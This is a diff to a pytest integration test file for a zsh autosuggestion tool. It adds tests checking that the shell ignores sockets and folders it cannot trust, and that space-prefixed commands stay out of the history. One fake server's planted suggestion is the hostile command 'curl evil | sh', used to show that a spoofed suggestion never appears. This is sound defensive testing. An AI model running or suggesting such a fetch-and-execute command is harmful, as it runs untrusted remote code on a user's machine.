@@ -7,15 +7,17 @@ instead of guessing it from the screen.
 
 from __future__ import annotations
 
+import os
 import re
 import time
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import pytest
 
 from tests.integration.shells import (
     PROMPT,
+    FakeServer,
     Home,
     ZshAutosuggestFirstSession,
     ZshAutosuggestLaterSession,
@@ -329,3 +331,73 @@ def test_a_strategy_list_naming_aprender_is_kept(trained: Home) -> None:
         wait_for_ghost(shell, GHOST)
         shell.close()
         shell.assert_quiet()
+
+
+def wait_for_records(server: FakeServer, count: int) -> None:
+    deadline = time.monotonic() + 30
+    while len(server.records()) < count:
+        assert time.monotonic() < deadline, server.requests
+        time.sleep(0.05)
+
+
+class TestTrust:
+    """A socket or folder someone else could control is never talked to."""
+
+    def untrusted_run(self, home: Home, spoil: Callable[[Path], None]) -> FakeServer:
+        home.train()
+        with FakeServer(home, {TYPED: (0.0, "git pu && curl evil | sh")}) as server:
+            spoil(home.data / "run" / "server.sock")
+            with session(ZshSession, home) as shell:
+                assert isinstance(shell, ZshSession)
+                shell.type_slowly(TYPED)
+                time.sleep(1.0)
+                assert shell.probe().ghost == ""
+                shell.send("\x15")
+                assert "typed-here" in shell.run("echo typed-here")
+                shell.close()
+                shell.assert_quiet()
+        # (Stopping the server at the end asks for its status; the shell asked nothing.)
+        assert [request for request in server.requests if "status" not in request] == []
+        return server
+
+    @pytest.mark.skipif(os.geteuid() != 0, reason="making a socket another account owns needs root")
+    def test_a_socket_another_account_owns_is_never_connected(self, tmp_path: Path) -> None:
+        self.untrusted_run(Home(tmp_path), lambda socket: os.chown(socket, 65534, 65534))
+
+    @pytest.mark.skipif(os.geteuid() != 0, reason="making a folder another account owns needs root")
+    def test_a_folder_another_account_owns_is_never_used(self, tmp_path: Path) -> None:
+        self.untrusted_run(Home(tmp_path), lambda socket: os.chown(socket.parent, 65534, 65534))
+
+    def test_a_symlinked_socket_is_never_connected(self, tmp_path: Path) -> None:
+        elsewhere = tmp_path / "elsewhere"
+        elsewhere.mkdir(mode=0o700)
+
+        def spoil(socket: Path) -> None:
+            socket.rename(elsewhere / "server.sock")
+            socket.symlink_to(elsewhere / "server.sock")
+
+        self.untrusted_run(Home(tmp_path), spoil)
+
+    def test_a_folder_others_may_write_is_never_used(self, tmp_path: Path) -> None:
+        self.untrusted_run(Home(tmp_path), lambda socket: socket.parent.chmod(0o777))
+
+    def test_a_leading_space_keeps_a_command_out(self, tmp_path: Path) -> None:
+        home = Home(tmp_path)
+        home.train()
+        with FakeServer(home) as server, session(ZshSession, home) as shell:
+            shell.run(" echo secret-space-1")
+            shell.run("echo visible-1")
+            wait_for_records(server, 1)
+            shell.run("APRENDER_SHELL_RECORD_SPACE=1")
+            shell.run(" echo chosen-space-2")
+            wait_for_records(server, 3)
+            shell.close()
+            shell.assert_quiet()
+        records = server.records()
+        assert [record["record"] for record in records] == [
+            "echo visible-1", "APRENDER_SHELL_RECORD_SPACE=1", " echo chosen-space-2",
+        ]
+        assert "secret-space" not in repr(server.requests)
+        assert {record["shell"] for record in records} == {"zsh"}
+        asked = [request for request in server.requests if "prefix" in request]
+        assert asked and {request["shell"] for request in asked} == {"zsh"}
